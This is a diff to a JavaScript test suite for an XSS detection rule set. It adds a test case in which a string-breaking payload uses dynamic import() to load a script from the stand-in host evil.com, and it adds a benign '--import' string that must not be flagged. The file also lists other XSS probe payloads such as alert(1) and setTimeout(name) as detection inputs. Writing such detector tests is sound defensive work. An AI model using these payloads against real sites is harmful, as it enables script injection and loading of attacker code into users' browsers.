@@ -10,6 +10,7 @@ describe('findJsScript', () => {
     [`"-alert(1)-"`, XSS_RULES.jsBreakCall],
     [`x";setTimeout(name, 1)//`, XSS_RULES.jsBreakCall],
     ['${alert(1)}', XSS_RULES.jsBreakCall],
+    ["`-import('//evil.com/x.js')-`", XSS_RULES.jsBreakCall],
     ['alert(1)', XSS_RULES.jsProbeCall],
     ['alert(document.domain)', XSS_RULES.jsProbeCall],
     ["prompt('XSS')", XSS_RULES.jsProbeCall],
@@ -82,6 +83,7 @@ describe('findJsScript', () => {
     'perl: &{$code}(@args)',
     '$.getScript("/js/app.js", init)',
     'const total = items.map(price, tax)',
+    'registered via the `--import` command-line option',
   ])('raises no critical paranoia-1 rule on %j', (input) => {
     expect(paranoiaOne(input)).toEqual([]);
   });
